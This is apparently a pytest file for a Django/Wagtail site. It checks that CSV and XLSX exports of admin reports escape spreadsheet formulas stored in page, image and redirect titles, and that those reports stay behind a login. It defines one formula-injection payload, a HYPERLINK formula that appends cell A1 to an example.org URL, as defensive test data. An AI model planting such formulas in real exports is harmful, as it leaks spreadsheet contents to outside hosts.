"""No spreadsheet runs what somebody typed into a title, whichever report exports it."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page

from home.models import StandardPage
from multimedia.models import Image
from tests.test_multimedia.canaries import png

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.org?"&A1)'
REPORTS = {
    "pictures": "multimedia_care_report",
    "locked": "wagtailadmin_reports:locked_pages",
    "ageing": "wagtailadmin_reports:aging_pages",
    "history": "wagtailadmin_reports:site_history",
    "workflows": "wagtailadmin_reports:workflow",
    "tasks": "wagtailadmin_reports:workflow_tasks",
    "redirects": "wagtailredirects:index",
}


@pytest.fixture
def titles(home, admin_user, settings, tmp_path):
    """A formula as the title of whatever reports list."""
    settings.MEDIA_ROOT = tmp_path
    Image.objects.create(title=FORMULA, file=SimpleUploadedFile("a.png", png()))
    page = home.add_child(instance=StandardPage(title=FORMULA, slug="formula", owner=admin_user))
    page.save_revision(user=admin_user, log_action=True).publish(user=admin_user)
    earlier = timezone.now() - timedelta(days=999)
    Page.objects.filter(pk=page.pk).update(
        locked=True, locked_by=admin_user, locked_at=earlier, last_published_at=earlier
    )
    Redirect.objects.create(old_path="/formula", redirect_link=FORMULA)
    return page


def start_workflow(page, user):
    page = page.specific
    page.locked = False
    page.save()
    page.save_revision()
    page.get_workflow().start(page, user)


def cells(answer):
    assert answer.status_code == 200
    assert "text/csv" in answer["Content-Type"]
    rows = csv.reader(io.StringIO(b"".join(answer.streaming_content).decode()))
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("report", REPORTS)
@pytest.mark.parametrize("part", ["", "_results"])
def test_csv_marks_formulas_as_text(admin_client, admin_user, titles, report, part):
    if report in {"workflows", "tasks"}:
        start_workflow(titles, admin_user)
    found = cells(admin_client.get(reverse(REPORTS[report] + part), {"export": "csv"}))
    assert f"'{FORMULA}" in found
    assert FORMULA not in found


def test_workbooks_hold_text_as_it_is(admin_client, titles):
    answer = admin_client.get(reverse(REPORTS["pictures"]), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(answer.streaming_content))).active
    assert [(cell.value, cell.data_type) for cell in sheet["A"]][1] == (FORMULA, "s")


@pytest.mark.parametrize("report", sorted(set(REPORTS) - {"pictures"}))
@pytest.mark.parametrize("part", ["", "_results"])
def test_reports_stay_closed_to_the_public(client, db, report, part):
    answer = client.get(reverse(REPORTS[report] + part), {"export": "csv"})
    assert answer.status_code == 302
    assert "login" in answer["Location"]
